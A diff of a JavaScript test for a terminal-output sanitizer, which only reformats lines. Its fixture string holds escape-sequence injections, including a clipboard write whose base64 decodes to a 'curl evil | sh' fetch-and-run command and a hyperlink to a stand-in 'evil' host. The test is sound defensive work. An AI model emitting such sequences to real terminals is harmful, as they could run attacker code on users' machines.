@@ -4,9 +4,13 @@ import {terminalLine, terminalText} from '../../src/lib/terminal-text.js'
 
 describe('terminalText', () => {
   it('writes the escape sequences of a hostile message as visible text', () => {
-    const hostile = 'hi \u001B]0;PWNED\u0007 \u001B[2J \u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001B]8;;http://evil\u001B\\link\u001B]8;;\u001B\\'
+    const hostile =
+      'hi \u001B]0;PWNED\u0007 \u001B[2J \u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001B]8;;http://evil\u001B\\link\u001B]8;;\u001B\\'
     const shown = terminalText(hostile)
-    assert.equal(shown, 'hi \\x1b]0;PWNED\\x07 \\x1b[2J \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\')
+    assert.equal(
+      shown,
+      'hi \\x1b]0;PWNED\\x07 \\x1b[2J \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\',
+    )
     assert.doesNotMatch(shown, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/)
   })
 
@@ -14,7 +18,8 @@ describe('terminalText', () => {
     for (let code = 0; code <= 0x9f; code++) {
       const char = String.fromCodePoint(code)
       const shown = terminalText(char)
-      if (code === 0x09 || code === 0x0a || (code >= 0x20 && code < 0x7f)) assert.equal(shown, char, `U+${code.toString(16)}`)
+      if (code === 0x09 || code === 0x0a || (code >= 0x20 && code < 0x7f))
+        assert.equal(shown, char, `U+${code.toString(16)}`)
       else if (code === 0x0d) assert.equal(shown, String.raw`\r`)
       else if (code <= 0x7f) assert.equal(shown, `\\x${code.toString(16).padStart(2, '0')}`, `U+${code.toString(16)}`)
       else assert.equal(shown, `\\u00${code.toString(16)}`, `U+${code.toString(16)}`)
